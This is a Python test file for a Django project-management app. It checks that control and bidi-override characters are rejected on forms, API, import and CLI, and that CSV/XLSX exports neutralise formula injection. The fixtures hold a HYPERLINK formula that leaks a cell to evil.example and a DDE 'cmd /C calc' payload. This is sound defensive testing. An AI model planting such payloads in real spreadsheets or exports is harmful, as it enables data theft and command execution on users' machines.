"""Issue 16, items 2 and 3: text that starts a formula or holds control characters, on every channel and export.

Control and bidirectional-override characters are refused wherever a record is written (a page form, the API, the
Excel import, the command line), with the field named. Text stored before that rule (put here with
``QuerySet.update``, which bypasses validation) still exports: .xlsx with string cells, never formulas, and CSV
with formulas neutralised.
"""

import csv
import io
import json

import pytest
from django.apps import apps
from django.db import models
from openpyxl import load_workbook

from clusterdesk.accounts.services import api_token_create
from clusterdesk.common.importing.export import export_queryset
from clusterdesk.common.importing.runner import run_import
from clusterdesk.common.importing.specs import spec_for
from clusterdesk.common.importing.tests.sheets import xlsx
from clusterdesk.parks.forms import ParkForm
from clusterdesk.parks.models import Park
from clusterdesk.projects.models import Project

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _chinese():
    """Messages in Chinese, whatever language an earlier request left active in this thread."""
    from django.utils import translation

    with translation.override("zh-hans"):
        yield

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
DDE = "=cmd|' /C calc'!A0"

#: Models whose text only the system writes (change records, job runs, generated warnings): no person types it.
SYSTEM_WRITTEN = {"changelog.ObjectChange", "changelog.ImportBatch", "enterprise_service.JobRun",
                  "enterprise_service.EnterpriseWarning", "common.ImportJournal", "common.ImportJournalEntry",
                  "common.JobAttempt", "common.WorkerHeartbeat"}


def test_every_model_with_typed_text_refuses_control_characters():
    from clusterdesk.common.models import CleanTextMixin

    missing = []
    for model in apps.get_models():
        if not model.__module__.startswith("clusterdesk") or model._meta.label in SYSTEM_WRITTEN:
            continue
        if any(isinstance(f, models.CharField | models.TextField) for f in model._meta.concrete_fields) \
                and not issubclass(model, CleanTextMixin):
            missing.append(model._meta.label)
    assert missing == []


def test_a_page_form_refuses_an_escape_sequence_under_the_field(client, world):
    client.force_login(world.users["admin"])
    park = world.a.park
    form = ParkForm(instance=park, user=world.users["admin"])
    data = {name: form[name].value() for name in form.fields}
    data = {k: ("" if v is None else v) for k, v in data.items()}
    data["name"] = "长沙\x1b[31m园区"
    response = client.post(f"/parks/{park.pk}/edit/", data)
    assert response.status_code == 200
    assert response.context["form"].errors["name"] == ["第 3 个字符是不允许的控制字符（U+001B ESC）"]
    park.refresh_from_db()
    assert "\x1b" not in park.name


@pytest.mark.parametrize(("field", "value", "message"), [
    ("name", "园区\x07", "character 3 is a control character that is not allowed (U+0007 BEL)"),
    ("management_body", "管委会\u202egnp.exe",
     "character 4 is a bidirectional control character that is not allowed (U+202E RLO)"),
    ("short_name", "园\ud800", "character 2 is an invalid character that is not allowed (U+D800)"),
])
def test_an_api_write_answers_422_naming_the_field(client, world, field, value, message):
    _token, key = api_token_create(user=world.users["admin"], description="tests")
    response = client.patch(f"/api/parks/parks/{world.a.park.pk}", json.dumps({field: value}),
                            content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {key}",
                            HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 422, response.content
    assert response.json()["detail"] == {field: [message]}


def test_a_multi_line_field_takes_line_breaks_and_a_one_line_field_does_not(world):
    project = world.a.project
    project.description = "一期：厂房\r\n二期：\t研发楼"
    project.full_clean()
    project.name = "第一行\n第二行"
    with pytest.raises(Exception) as caught:
        project.full_clean()
    assert list(caught.value.message_dict) == ["name"]


def _lines(report):
    return [e.as_line() for e in report.errors]


@pytest.mark.parametrize("kind", ["projects", "parks"])  # a bulk-written kind and a kind written by its service
def test_an_import_row_with_a_control_character_names_row_and_column(world, kind):
    if kind == "projects":
        rows = [["项目编码", "项目名称", "所在地区", "总投资"], ["T-1", "储能_x0007_项目", "430102", 100]]
    else:  # _xHHHH_ is how an .xlsx file carries a control character
        rows = [["园区名称", "园区级别", "园区类型", "所在地区"], ["测试_x001B_园区", "省级", "工业园区", "430102"]]
    report = run_import(kind=kind, data=xlsx(rows, title="表"), file_name="x.xlsx", actor=world.users["admin"])
    lines = _lines(report)
    assert len(lines) == 1, lines
    assert lines[0].startswith("表!B2 项目名称：第 3 个字符是不允许的控制字符（U+0007 BEL）" if kind == "projects"
                               else "表!A2 园区名称：第 3 个字符是不允许的控制字符（U+001B ESC）")
    assert not Project.objects.filter(code="T-1").exists()


def test_the_cli_refuses_control_characters_and_exports_stored_ones(world, tmp_path, capsys):
    from clusterdesk.cli import main

    with pytest.raises(SystemExit) as exited:
        main(["createuser", "zhang", "--role", "viewer", "--password", "x-2026-pass", "--full-name", "张三\x1b"])
    assert str(exited.value.code) == "clusterdesk createuser: full_name: 第 3 个字符是不允许的控制字符（U+001B ESC）"
    sheet = tmp_path / "bad.xlsx"
    sheet.write_bytes(xlsx([["项目编码", "项目名称", "所在地区", "总投资"], ["T-2", "项目_x0008_", "430102", 100]]))
    with pytest.raises(SystemExit) as exited:
        main(["import", "projects", str(sheet), "--no-progress"])
    assert exited.value.code == 1
    assert "B2 项目名称：第 3 个字符是不允许的控制字符（U+0008 BS）" in capsys.readouterr().err
    Park.objects.filter(pk=world.a.park.pk).update(name="园区\x1b[0m" + DDE)
    out = tmp_path / "parks.xlsx"
    main(["export", "parks", str(out), "--no-progress"])
    cells = [c for row in load_workbook(out).worksheets[0].iter_rows(min_row=2) for c in row if c.value]
    stored = [c for c in cells if "园区\ufffd[0m" in str(c.value)]
    assert [(c.value, c.data_type) for c in stored] == [("园区\ufffd[0m" + DDE, "s")]


def _exported_cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}


def test_list_page_exports_of_stored_dangerous_text_answer_200_with_text_cells(client, world):
    Project.objects.filter(pk=world.a.project.pk).update(name=HYPERLINK + "\x07")
    Park.objects.filter(pk=world.a.park.pk).update(name=DDE)
    client.force_login(world.users["admin"])
    for url, expected in (("/projects/?export=xlsx", HYPERLINK + "\ufffd"), ("/parks/?export=xlsx", DDE)):
        response = client.get(url)
        assert response.status_code == 200, url
        cell = _exported_cells(response.content)[expected]
        assert (cell.data_type, cell.quotePrefix) == ("s", True)
    response = client.get("/parks/?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert "'" + DDE in rows[1]


def test_pipeline_list_export_writes_a_formula_name_as_text(client, world):
    from python_calamine import CalamineWorkbook

    from clusterdesk.common.xlsx import xlsx_bytes

    rows = [[HYPERLINK, -3], ["#N/A", 1], ["长沙\x1b", 2], ["-5", 3], ["甲_x0041_", 4]]
    content = xlsx_bytes("t", ["名称", "数"], rows)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert [(c.value, c.data_type) for row in sheet.iter_rows(min_row=2, max_row=5) for c in row] == [
        (HYPERLINK, "s"), (-3, "n"), ("#N/A", "s"), (1, "n"), ("长沙\ufffd", "s"), (2, "n"), ("-5", "s"), (3, "n")]
    read = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in read[1:]] == [HYPERLINK, "#N/A", "长沙\ufffd", "-5", "甲_x0041_"]


def test_a_formula_name_round_trips_through_export_and_import(world):
    project = world.a.project
    Project.objects.filter(pk=project.pk).update(name=HYPERLINK)
    spec = spec_for("projects")
    exported = export_queryset(spec, Project.objects.filter(pk=project.pk))
    assert _exported_cells(exported)[HYPERLINK].data_type == "s"
    report = run_import(kind="projects", data=exported, file_name="p.xlsx", actor=world.users["admin"])
    assert _lines(report) == []
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
    project.refresh_from_db()
    assert project.name == HYPERLINK


def test_analytics_csv_output_neutralises_text_and_keeps_numbers(tmp_path):
    import pandas as pd

    from clusterdesk.analytics.cli import write_frame

    out = tmp_path / "r.csv"
    write_frame(pd.DataFrame({"loc": ["=1+1", "430102"], "val": [-1.5, 2.0]}), out)
    assert out.read_text(encoding="utf-8-sig").splitlines() == ["loc,val", "'=1+1,-1.5", "430102,2.0"]


def test_allocate_writes_formula_ids_neutralised(tmp_path, capsys):
    from clusterdesk.cli import main

    def write(name, rows):
        with (tmp_path / name).open("w", encoding="utf-8-sig", newline="") as handle:
            csv.writer(handle).writerows(rows)
        return str(tmp_path / name)

    projects = write("P.csv", [["project_id", "land_mu"], ["=1+2", "10"]])
    parks = write("K.csv", [["park_id", "available_land_mu"], ["@SUM(A1)", "100"]])
    candidates = write("C.csv", [["project_id", "park_id", "score"], ["=1+2", "@SUM(A1)", "5"]])
    out = tmp_path / "A.csv"
    main(["allocate", "--projects", projects, "--parks", parks, "--candidates", candidates, "--out", str(out),
          "--limits", "count"])
    capsys.readouterr()
    assert list(csv.reader(out.open(encoding="utf-8-sig")))[1] == ["'=1+2", "'@SUM(A1)", "5", "10"]


def test_ms_project_export_of_a_stored_control_character_is_well_formed_xml():
    import datetime
    import xml.etree.ElementTree as ET

    from clusterdesk.core.scheduling import Task, mspdi_to_tasks, tasks_to_mspdi

    xml = tasks_to_mspdi("项目\x1b", datetime.date(2025, 3, 1), [Task("a", 2)], [], names={"a": "开工\x07"})
    ET.fromstring(xml.split("\n", 1)[1])  # raised "not well-formed" before
    _tasks, _deps, names = mspdi_to_tasks(xml)
    assert "开工\ufffd" in names.values()
